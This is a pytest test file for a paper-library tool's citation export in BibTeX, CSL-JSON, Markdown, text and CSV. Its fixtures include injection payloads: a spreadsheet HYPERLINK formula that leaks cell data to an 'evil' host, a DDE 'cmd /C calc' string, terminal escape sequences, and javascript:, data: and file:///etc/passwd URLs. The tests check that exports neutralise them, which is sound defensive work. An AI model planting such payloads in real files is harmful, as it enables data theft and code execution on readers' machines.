"""Citation formats, export, round trips through real parsers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import bibtexparser
import pytest
from bibtexparser import middlewares as m

from abstract_reader.cite import (
    bibtex_key,
    format_records,
    record,
    write_atomic,
)
from abstract_reader.corpus import Corpus, load_corpus
from abstract_reader.library import Library, Metadata
from abstract_reader.text import sanitise

from .conftest import paper_with, write_dump

TRICKY_TITLES = [
    "Fast & Furious: 100% Robust Ranking",
    "Learning with $O(\\sqrt{n})$ Regret and the {Braced} Term",
    "Köhler–Šmíd Bounds for ℓ₂ Regression under_score #1 ~ ^",
    "Back\\slash and } Unbalanced { Braces",
]


def _unescape_bibtex(value: str) -> str:
    """Undo BibTeX escaping (the inverse of what a LaTeX reader would do for these)."""
    replacements = {
        r"\textbackslash{}": "\\",
        r"\textasciitilde{}": "~",
        r"\textasciicircum{}": "^",
        r"\textbraceleft{}": "{",
        r"\textbraceright{}": "}",
        r"\&": "&",
        r"\%": "%",
        r"\#": "#",
        r"\_": "_",
        r"\$": "$",
    }
    out = []
    i = 0
    while i < len(value):
        for escaped, plain in replacements.items():
            if value.startswith(escaped, i):
                out.append(plain)
                i += len(escaped)
                break
        else:
            out.append(value[i])
            i += 1
    return "".join(out)


@pytest.fixture
def library(tmp_path: Path) -> Library:
    return Library(tmp_path / "lib.sqlite3")


def test_bibtex_of_seeds_parses_with_unique_keys(seeds: Corpus) -> None:
    text = format_records([record(p) for p in seeds.papers], "bibtex")
    parsed = bibtexparser.parse_string(text)
    assert not parsed.failed_blocks
    assert len(parsed.entries) == 55
    keys = [e.key for e in parsed.entries]
    assert len(set(keys)) == 55
    for entry in parsed.entries:
        assert entry.entry_type == "inproceedings"
        fields = {f.key: f.value for f in entry.fields}
        assert fields["year"] == "2026"
        assert "Neural Information Processing Systems" in fields["booktitle"]
        assert "author" not in fields  # never invented
        assert "derived" in fields["note"].lower()


def test_bibtex_key_is_readable_and_stable(seeds: Corpus) -> None:
    rse = record(paper_with(seeds, "Robust Satisficing Ensemble (RSE)"))
    key = bibtex_key(rse)
    assert key.startswith("neurips2026")
    assert key.endswith(rse.id[:6])
    assert key == bibtex_key(rse)
    assert key.isascii() and " " not in key


@pytest.mark.parametrize("title", TRICKY_TITLES)
def test_bibtex_round_trips_real_metadata(seeds: Corpus, library: Library, title: str) -> None:
    paper = seeds.papers[0]
    authors = ("Ada Lovelace", "Jürgen Schmidhuber", "O'Neil, Cathy")
    library.set_metadata(
        paper.id,
        Metadata(
            title=title, authors=authors, url="https://example.org/p?a=1&b=2", doi="10.1000/x_y"
        ),
    )
    text = format_records([record(paper, library.snapshot)], "bibtex")
    parsed = bibtexparser.parse_string(
        text, append_middleware=[m.SeparateCoAuthors(), m.SplitNameParts()]
    )
    assert not parsed.failed_blocks
    fields = {f.key: f.value for f in parsed.entries[0].fields}
    assert _unescape_bibtex(fields["title"]) == title
    people = [" ".join(p.first + p.von + p.last) for p in fields["author"]]
    assert people == ["Ada Lovelace", "Jürgen Schmidhuber", "Cathy O'Neil"]
    assert fields["url"] == "https://example.org/p?a=1&b=2"
    assert fields["doi"] == "10.1000/x_y"
    assert "note" not in fields  # a real title needs no "derived" note


def test_bibtex_keeps_math(seeds: Corpus, library: Library) -> None:
    paper = seeds.papers[0]
    library.set_metadata(paper.id, Metadata(title="Bounds of $O(\\sqrt{n})$ and 50% more"))
    text = format_records([record(paper, library.snapshot)], "bibtex")
    assert "$O(\\sqrt{n})$" in text and "50\\%" in text


def test_csl_json_round_trips(seeds: Corpus, library: Library) -> None:
    paper = seeds.papers[1]
    title = TRICKY_TITLES[2]
    library.set_metadata(paper.id, Metadata(title=title, authors=("Ada Lovelace",), year=2025))
    items = json.loads(format_records([record(paper, library.snapshot)], "csl-json"))
    assert items[0]["title"] == title
    assert items[0]["author"] == [{"family": "Lovelace", "given": "Ada"}]
    assert items[0]["issued"] == {"date-parts": [[2025]]}
    assert items[0]["type"] == "paper-conference"
    assert items[0]["id"] == paper.id


def test_plain_and_markdown(seeds: Corpus, library: Library) -> None:
    paper = paper_with(seeds, "Robust Satisficing Ensemble (RSE)")
    plain = format_records([record(paper)], "text").strip()
    assert paper.title in plain and "2026" in plain and paper.id[:12] in plain
    assert "derived" in plain
    md = format_records([record(paper)], "markdown").strip()
    assert md.startswith("- **") and paper.id[:12] in md
    library.set_metadata(
        paper.id, Metadata(title="A [bracketed] snake_case title", url="https://x.org/a")
    )
    md = format_records([record(paper, library.snapshot)], "markdown")
    assert "[A \\[bracketed\\] snake\\_case title](https://x.org/a)" in md


def test_csv_and_jsonl_exports(seeds: Corpus, library: Library) -> None:
    library.add_tags([seeds.papers[0].id], ["toread"])
    library.set_note(seeds.papers[0].id, "line one\nline two")
    records = [record(p, library.snapshot) for p in seeds.papers]
    rows = list(csv.DictReader(io.StringIO(format_records(records, "csv"))))
    assert len(rows) == 55 and rows[0]["tags"] == "toread"
    assert rows[0]["note"] == "line one\nline two"
    lines = format_records(records, "jsonl").splitlines()
    assert len(lines) == 55 and json.loads(lines[0])["tags"] == ["toread"]


def test_outputs_carry_no_control_characters(tmp_path: Path, library: Library) -> None:
    dump = write_dump(tmp_path / "evil.txt", "We propose \x1b]52;c;ZXZpbA==\x07Evil, a thing.")
    paper = load_corpus([dump]).papers[0]
    library.set_note(paper.id, "note \x1b[2J")
    for fmt in ("bibtex", "text", "markdown", "csl-json", "csv", "jsonl"):
        out = format_records([record(paper, library.snapshot)], fmt)
        assert not any(ord(c) < 32 and c not in "\n\t" for c in out), fmt
        assert not any(0x80 <= ord(c) <= 0x9F for c in out), fmt


def test_write_atomic_refuses_to_overwrite(tmp_path: Path) -> None:
    target = tmp_path / "out.bib"
    write_atomic(target, "one")
    with pytest.raises(FileExistsError):
        write_atomic(target, "two")
    assert target.read_text() == "one"
    write_atomic(target, "two", force=True)
    assert target.read_text() == "two"
    assert list(tmp_path.iterdir()) == [target]  # no temporary left behind


# ---------------------------------------------------------------------------------------
# Citations you can paste (issue #11)
# ---------------------------------------------------------------------------------------


def _one(seeds: Corpus, library: Library, **meta: object) -> str:
    paper = seeds.papers[0]
    library.set_metadata(paper.id, Metadata(**meta))  # type: ignore[arg-type]
    return format_records([record(paper, library.snapshot)], "bibtex")


def test_bibtex_protects_acronyms_and_keeps_user_braces(seeds: Corpus, library: Library) -> None:
    text = _one(
        seeds,
        library,
        title="{RSE} and GANs: Robust Ensembles on ImageNet with the {Fancy} Trick",
        authors=("Ada Lovelace",),
        year=2026,
    )
    assert "{RSE} and {GAN}s: Robust Ensembles on {ImageNet} with the {Fancy} Trick" in text
    assert "\\{" not in text  # a user's balanced braces stay braces
    text = _one(
        seeds, library, title="Gaussian mean estimation with Boolean circuits", authors=("A B",)
    )
    # sentence case: capitalised words inside are names, protected; the first word is not
    assert "{Gaussian mean estimation with {Boolean} circuits}" in text.replace("  ", " ")


def test_bibtex_key_from_first_author_year_first_word(seeds: Corpus, library: Library) -> None:
    a, b = seeds.papers[0], seeds.papers[1]
    for paper in (a, b):
        library.set_metadata(
            paper.id,
            Metadata(
                title="The Robust Estimator",
                authors=("María de la Cruz", "Ada Lovelace"),
                year=2026,
            ),
        )
    recs = [record(a, library.snapshot), record(b, library.snapshot)]
    text = format_records(recs, "bibtex")
    keys = [e.key for e in bibtexparser.parse_string(text).entries]
    assert keys == ["cruz2026robust", f"cruz2026robust_{b.id[:4]}"]
    assert format_records(recs, "bibtex") == text  # stable


def test_arxiv_records_are_misc_with_eprint(seeds: Corpus, library: Library) -> None:
    paper = seeds.papers[0]
    library.set_metadata(
        paper.id,
        Metadata(
            title="Empirical Sensitivity",
            authors=("Ada Lovelace",),
            year=2026,
            url="https://arxiv.org/abs/2601.01234v2",
            doi="https://doi.org/10.48550/arXiv.2601.01234",
        ),
    )
    rec = record(paper, library.snapshot)
    # the dump's venue is known: a conference paper, with its arXiv id
    entry = bibtexparser.parse_string(format_records([rec], "bibtex")).entries[0]
    fields = {f.key: f.value for f in entry.fields}
    assert entry.entry_type == "inproceedings" and fields["eprint"] == "2601.01234"
    assert fields["archivePrefix"] == "arXiv" and fields["doi"] == "10.48550/arXiv.2601.01234"
    from dataclasses import replace

    bare = replace(rec, venue=None)
    entry = bibtexparser.parse_string(format_records([bare], "bibtex")).entries[0]
    assert entry.entry_type == "misc" and "booktitle" not in entry.fields_dict


def test_abstract_and_keywords_behind_a_flag_and_a_setting(seeds: Corpus, tmp_path: Path) -> None:
    from .conftest import cli

    db = tmp_path / "lib.db"
    pid = seeds.papers[0].id
    assert cli("tag", pid, "robustness", "to read", db=db).returncode == 0

    def fields(*args: str) -> dict[str, str]:
        out = cli("cite", pid, *args, db=db).stdout
        return {f.key: f.value for f in bibtexparser.parse_string(out).entries[0].fields}

    assert "abstract" not in fields() and "keywords" not in fields()
    full = fields("--abstract")
    assert full["keywords"] == "robustness, to read"
    assert "empirical sensitivity" in full["abstract"]
    Library(db).set_setting("cite_abstract", "on")
    assert "abstract" in fields()
    assert "abstract" not in fields("--no-abstract")


def test_derived_titles_are_never_cut(seeds: Corpus) -> None:
    from dataclasses import replace

    for paper in seeds.papers:
        rec = record(paper)
        assert rec.title_derived
        # a stand-in cut short (older titles, other heuristics) runs on to its clause's end
        head = " ".join(paper.abstract.split()[:6])
        cut = replace(rec, title=head + "…")
        for fmt in ("bibtex", "text", "markdown"):  # (no abstract in these by default)
            out = format_records([rec], fmt) + format_records([cut], fmt)
            assert "…" not in out, (fmt, paper.id)
        items = json.loads(format_records([rec, cut], "csl-json"))
        assert not any("…" in item["title"] for item in items)
        bib = bibtexparser.parse_string(format_records([cut], "bibtex")).entries[0]
        title = bib.fields_dict["title"].value.replace("{", "").replace("}", "")
        assert title.startswith(head.replace("$", "")[:10]) or "$" in head
        assert len(title) > len(head)


def test_text_and_markdown_author_lists_and_one_doi(seeds: Corpus, library: Library) -> None:
    paper = seeds.papers[0]
    library.set_metadata(
        paper.id,
        Metadata(
            title="A Title",
            authors=("Ada Lovelace", "Müller, Jürgen", "María de la Cruz"),
            year=2026,
            doi="doi:10.1000/xyz",
            url="https://example.org/a",
        ),
    )
    rec = record(paper, library.snapshot)
    text = format_records([rec], "text")
    assert text.startswith("A. Lovelace, J. Müller, and M. de la Cruz (2026). A Title.")
    assert text.count("https://doi.org/10.1000/xyz") == 1 and "doi.org/doi" not in text
    md = format_records([rec], "markdown")
    assert "[A Title](https://doi.org/10.1000/xyz)" in md and md.count("doi.org") == 1
    assert "A. Lovelace, J. Müller, and M. de la Cruz" in md
    items = json.loads(format_records([rec], "csl-json"))
    assert items[0]["author"][2] == {
        "family": "Cruz",
        "given": "María",
        "non-dropping-particle": "de la",
    }


def test_pandoc_citeproc_renders_the_bibtex(
    seeds: Corpus, library: Library, tmp_path: Path
) -> None:
    import shutil
    import subprocess

    from .conftest import skip_or_fail

    if shutil.which("pandoc") is None:
        skip_or_fail("pandoc is not installed (apt-get install pandoc)")
    papers = seeds.papers[:3]
    library.set_metadata(
        papers[0].id,
        Metadata(
            title="{RSE} for GANs: Robust Satisficing Ensembles",
            authors=("Ada Lovelace", "Jürgen Müller", "María de la Cruz"),
            year=2026,
            doi="10.1000/rse",
        ),
    )
    text = format_records([record(p, library.snapshot) for p in papers], "bibtex")
    keys = [e.key for e in bibtexparser.parse_string(text).entries]
    bib = tmp_path / "refs.bib"
    bib.write_text(text, encoding="utf-8")
    doc = tmp_path / "doc.md"
    doc.write_text(" ".join(f"[@{k}]" for k in keys) + "\n", encoding="utf-8")
    run = subprocess.run(
        ["pandoc", "--citeproc", "--bibliography", str(bib), "-t", "plain", str(doc)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert run.returncode == 0, run.stderr
    out = " ".join(run.stdout.split())
    assert "RSE for GANs: Robust Satisficing Ensembles" in out
    assert "{" not in out and "\\" not in out  # braces kept as protection, not printed
    assert "Lovelace, Ada, Jürgen Müller, and María de la Cruz" in out
    assert "https://doi.org/10.1000/rse" in out
    assert "[WARNING]" not in run.stderr


def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
    """A dump is untrusted: a title or tag starting with = + - @ is exported as text."""
    dump = write_dump(
        tmp_path / "evil.txt",
        '=HYPERLINK("http://evil/?x="&A1,"click") is how this abstract starts, and then '
        "it goes on about robust estimation for a while.",
        "@SUM(1+1)*cmd|' /C calc'!A0 starts this one, which is about graphs.",
    )
    corpus = load_corpus([dump])
    out = format_records([record(p) for p in corpus.papers], "csv")
    for row in csv.DictReader(io.StringIO(out)):
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    assert "'=HYPERLINK" in out


# ---------------------------------------------------------------------------------------
# Links in citations: only what the reader's O would open
# ---------------------------------------------------------------------------------------

UNSAFE_URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "https://",  # no host
    "https://example.org/a b",  # a space
    "https://example.org/\u202egnp.exe",  # a bidi control
]


def _md_links(text: str) -> list[tuple[str, str]]:
    """(href, visible text) of every link in ``text`` once read as CommonMark (with GitHub's
    ~~strikethrough~~)."""
    from markdown_it import MarkdownIt

    links: list[tuple[str, str]] = []
    for block in MarkdownIt("commonmark").enable("strikethrough").parse(text):
        children = block.children or []
        for i, tok in enumerate(children):
            if tok.type == "link_open":
                end = next(j for j in range(i, len(children)) if children[j].type == "link_close")
                shown = "".join(c.content for c in children[i + 1 : end])
                links.append((str(tok.attrs["href"]), shown))
    return links


def _md_text(text: str) -> str:
    """The text ``text`` shows once read as CommonMark (its text runs, joined)."""
    from markdown_it import MarkdownIt

    return "".join(
        c.content
        for t in MarkdownIt("commonmark").parse(text)
        if t.type == "inline"
        for c in t.children or []
        if c.type == "text"
    )


@pytest.mark.parametrize("url", UNSAFE_URLS)
def test_citations_leave_out_a_url_the_reader_would_not_open(
    seeds: Corpus, library: Library, url: str
) -> None:
    paper = seeds.papers[0]
    library.set_metadata(paper.id, Metadata(title="A Title", authors=("Ada Lovelace",), url=url))
    rec = record(paper, library.snapshot)
    entry = bibtexparser.parse_string(format_records([rec], "bibtex")).entries[0]
    assert "url" not in entry.fields_dict
    assert "URL" not in json.loads(format_records([rec], "csl-json"))[0]
    text = format_records([rec], "text")
    assert text.startswith("A. Lovelace (2026). A Title. In Advances in Neural")
    assert "://" not in text and ":alert" not in text and "file:" not in text
    md = format_records([rec], "markdown")
    assert md.startswith("- **A Title** — A. Lovelace")
    assert _md_links(md) == []
    # the data exports keep the URL as stored (it is the library's record, not a link)
    assert next(csv.DictReader(io.StringIO(format_records([rec], "csv"))))["url"] == sanitise(url)
    assert json.loads(format_records([rec], "jsonl"))["url"] == rec.url


def test_an_unsafe_url_gives_way_to_the_doi_and_the_arxiv_page(
    seeds: Corpus, library: Library
) -> None:
    from dataclasses import replace

    paper = seeds.papers[0]
    library.set_metadata(
        paper.id, Metadata(title="A Title", url="javascript:alert(1)", doi="10.1000/xyz")
    )
    rec = record(paper, library.snapshot)
    assert "[A Title](https://doi.org/10.1000/xyz)" in format_records([rec], "markdown")
    assert "https://doi.org/10.1000/xyz [abstract-reader:" in format_records([rec], "text")
    arxiv = replace(rec, eprint="2601.01234", doi=None)
    entry = bibtexparser.parse_string(format_records([arxiv], "bibtex")).entries[0]
    assert entry.fields_dict["url"].value == "https://arxiv.org/abs/2601.01234"


def test_cite_markdown_of_a_javascript_url_is_no_link(seeds: Corpus, tmp_path: Path) -> None:
    """What the QA pass saw: `meta --url 'javascript:alert(1)'`, then `cite -f markdown`."""
    from .conftest import cli

    db = tmp_path / "lib.db"
    rse = paper_with(seeds, "Robust Satisficing Ensemble (RSE)")
    assert cli("meta", rse.id[:4], "--url", "javascript:alert(1)", db=db).returncode == 0
    for fmt in ("bibtex", "text", "markdown", "csl-json"):
        out = cli("cite", rse.id[:4], "-f", fmt, db=db)
        assert out.returncode == 0, out.stderr
        assert "javascript" not in out.stdout and "alert" not in out.stdout, fmt
    md = cli("cite", rse.id[:4], "-f", "markdown", db=db).stdout
    assert md.startswith("- **RSE: Robust Satisficing Ensemble** — NeurIPS 2026")
    exported = cli("export", "-f", "markdown", db=db).stdout
    assert "javascript" not in exported and "**RSE: Robust Satisficing Ensemble**" in exported


@pytest.mark.parametrize(
    ("url", "href"),
    [
        (  # balanced parentheses, as in Wikipedia's links
            "https://en.wikipedia.org/wiki/Set_(mathematics)",
            "https://en.wikipedia.org/wiki/Set_%28mathematics%29",
        ),
        ("https://example.org/a)b", "https://example.org/a%29b"),  # a lone ")"
        ("https://example.org/f(x", "https://example.org/f%28x"),  # a lone "("
        ("https://example.org/Köhler?q=a&b=[1]", "https://example.org/K%C3%B6hler?q=a&b=%5B1%5D"),
    ],
)
def test_markdown_links_survive_brackets_in_the_title_and_url(
    seeds: Corpus, library: Library, url: str, href: str
) -> None:
    paper = seeds.papers[0]
    title = "A [bracketed] title) with ] and (parens) ~~struck~~ `code` <b>"
    library.set_metadata(paper.id, Metadata(title=title, url=url))
    md = format_records([record(paper, library.snapshot)], "markdown")
    assert _md_links(md) == [(href, title)]


def test_a_markdown_export_keeps_a_typed_asterisk_as_the_digest_does(
    seeds: Corpus, library: Library
) -> None:
    """A title typed as `*em* and $\\alpha$ study` lost its asterisks in the Markdown export
    (rendered as emphasis: "em") while the digest kept them (`\\*em\\*`). Read as Markdown,
    both show the asterisks now; the export still converts the math."""
    from markdown_it import MarkdownIt

    from abstract_reader.digest import digest

    paper = seeds.papers[0]
    title = "*em* and $\\alpha$ study"
    library.set_metadata(paper.id, Metadata(title=title, url="https://example.org/p"))
    rec = record(paper, library.snapshot)
    exported = format_records([rec], "markdown")
    assert _md_links(exported) == [("https://example.org/p", "*em* and α study")]
    # the same title in the digest: its heading reads the same asterisks
    md = MarkdownIt("commonmark")
    headings = [t for t in md.parse(digest([rec], "markdown")) if t.type == "inline"]
    assert any("*em* and" in "".join(c.content for c in h.children or []) for h in headings)


def test_a_markdown_export_shows_an_html_entity_in_a_title_as_typed(
    seeds: Corpus, library: Library
) -> None:
    """QA s17 #7: a title `&lt;b&gt; & co` was written as it is, and read as Markdown
    showed `<b>`: the `&` is escaped now, as `*`, `<` and `[` are."""

    paper = seeds.papers[0]
    title = "&lt;b&gt; & co"
    library.set_metadata(paper.id, Metadata(title=title))
    exported = format_records([record(paper, library.snapshot)], "markdown")
    shown = _md_text(exported)
    assert title in shown, (exported, shown)
    assert "<b>" not in shown


# ---------------------------------------------------------------------------------------
# BibTeX's case-protection braces stay in BibTeX
# ---------------------------------------------------------------------------------------

BRACED = "Sparkle: A Dataset for {GAN} Background with {Gaussian} noise"
UNBRACED = "Sparkle: A Dataset for GAN Background with Gaussian noise"
NOCASE_TITLE = (
    'Sparkle: A Dataset for <span class="nocase">GAN</span> Background with '
    '<span class="nocase">Gaussian</span> noise'
)


def test_braces_of_a_title_are_bibtex_only(seeds: Corpus, library: Library) -> None:
    paper = seeds.papers[0]
    library.set_metadata(paper.id, Metadata(title=BRACED, authors=("Ada Lovelace",), year=2026))
    rec = record(paper, library.snapshot)
    bib = bibtexparser.parse_string(format_records([rec], "bibtex")).entries[0]
    assert bib.fields_dict["title"].value == BRACED  # the protection BibTeX styles need
    assert f"(2026). {UNBRACED}. In " in format_records([rec], "text")
    assert format_records([rec], "markdown").startswith(f"- **{UNBRACED}** — ")
    assert json.loads(format_records([rec], "csl-json"))[0]["title"] == NOCASE_TITLE
    assert next(csv.DictReader(io.StringIO(format_records([rec], "csv"))))["title"] == UNBRACED
    assert json.loads(format_records([rec], "jsonl"))["title"] == UNBRACED
    assert library.snapshot.metadata[paper.id].title == BRACED  # stored as typed


def test_braces_inside_math_are_the_maths(seeds: Corpus, library: Library) -> None:
    paper = seeds.papers[0]
    library.set_metadata(paper.id, Metadata(title="Bounds of $x^{10}$ for {GAN}s"))
    rec = record(paper, library.snapshot)
    assert format_records([rec], "text").startswith("Bounds of x¹⁰ for GANs. (2026). In ")
    assert "**Bounds of x¹⁰ for GANs**" in format_records([rec], "markdown")
    title = json.loads(format_records([rec], "csl-json"))[0]["title"]
    assert title == 'Bounds of $x^{10}$ for <span class="nocase">GAN</span>s'


SENTENCE_CASE_CSL = """<?xml version="1.0" encoding="utf-8"?>
<style xmlns="http://purl.org/net/xbiblio/csl" class="in-text" version="1.0"
       default-locale="en-US">
  <info><title>Titles in sentence case</title><id>sentence-case-titles</id>
    <updated>2026-01-01T00:00:00+00:00</updated></info>
  <citation><layout><text variable="title"/></layout></citation>
  <bibliography><layout><text variable="title" text-case="sentence" prefix="TITLE: "/>
  </layout></bibliography>
</style>
"""


@pytest.mark.parametrize("style", ["default", "sentence case"])
def test_pandoc_citeproc_renders_the_csl_json_title(
    seeds: Corpus, library: Library, tmp_path: Path, style: str
) -> None:
    """Through `pandoc --citeproc`: no brace or span printed, and a style that lowers
    capitals keeps the user's protected words as BibTeX would."""
    import shutil
    import subprocess

    from .conftest import skip_or_fail

    if shutil.which("pandoc") is None:
        skip_or_fail("pandoc is not installed (apt-get install pandoc)")
    paper = seeds.papers[0]
    library.set_metadata(paper.id, Metadata(title=BRACED, authors=("Ada Lovelace",), year=2026))
    refs = tmp_path / "refs.json"
    refs.write_text(format_records([record(paper, library.snapshot)], "csl-json"), "utf-8")
    doc = tmp_path / "doc.md"
    doc.write_text(f"[@{paper.id}]\n", encoding="utf-8")
    command = ["pandoc", "--citeproc", "--bibliography", str(refs), "-t", "plain", str(doc)]
    if style != "default":
        csl = tmp_path / "sentence.csl"
        csl.write_text(SENTENCE_CASE_CSL, encoding="utf-8")
        command[2:2] = ["--csl", str(csl)]
    run = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert run.returncode == 0, run.stderr
    out = " ".join(run.stdout.split())
    expected = (  # Chicago (the default) sets titles in title case
        "“Sparkle: A Dataset for GAN Background with Gaussian Noise.”"
        if style == "default"
        else "TITLE: Sparkle: A dataset for GAN"
    )
    assert expected in out, out
    if style != "default":
        assert "background with Gaussian noise" in out, out  # kept: the user braced it
    assert "{" not in out and "span" not in out and "[WARNING]" not in run.stderr


def test_cli_shows_a_braced_title_without_braces(seeds: Corpus, tmp_path: Path) -> None:
    """What the QA pass saw: `meta --title` with {GAN}, then list, show and cite."""
    from .conftest import cli

    db = tmp_path / "lib.db"
    rse = paper_with(seeds, "Robust Satisficing Ensemble (RSE)")
    assert cli("meta", rse.id[:8], "--title", BRACED, db=db).returncode == 0
    listed = [line for line in cli("list", db=db).stdout.splitlines() if rse.id[:12] in line]
    assert len(listed) == 1 and listed[0].endswith(UNBRACED)
    assert cli("show", rse.id[:8], db=db).stdout.startswith(UNBRACED + "\n")
    csl = json.loads(cli("cite", rse.id[:8], "-f", "csl-json", db=db).stdout)
    assert csl[0]["title"] == NOCASE_TITLE
    bib = cli("cite", rse.id[:8], "-f", "bibtex", db=db).stdout
    assert "{Sparkle: A Dataset for {GAN} Background with {Gaussian} noise}" in bib
    assert cli("meta", rse.id[:8], db=db).stdout.startswith(f"title:    {BRACED}\n")


def test_a_markdown_export_shows_the_venue_as_typed(seeds: Corpus, library: Library) -> None:
    """A venue (from the dumps or `match`: text from the web) with `*`, a link or an HTML
    entity was written as it is, and read as Markdown showed emphasis, a second link and
    `<b>`: it reads back as typed, with the title's link the only one."""
    from dataclasses import replace

    paper = seeds.papers[0]
    library.set_metadata(paper.id, Metadata(title="A title", url="https://example.org/p"))
    venue = "Workshop on *Sparse* [Models](https://evil.example) &lt;b&gt; #1"
    rec = replace(record(paper, library.snapshot), venue=venue, year=2026)
    exported = format_records([rec], "markdown")
    assert _md_links(exported) == [("https://example.org/p", "A title")]
    shown = _md_text(exported)
    assert venue in shown, (exported, shown)
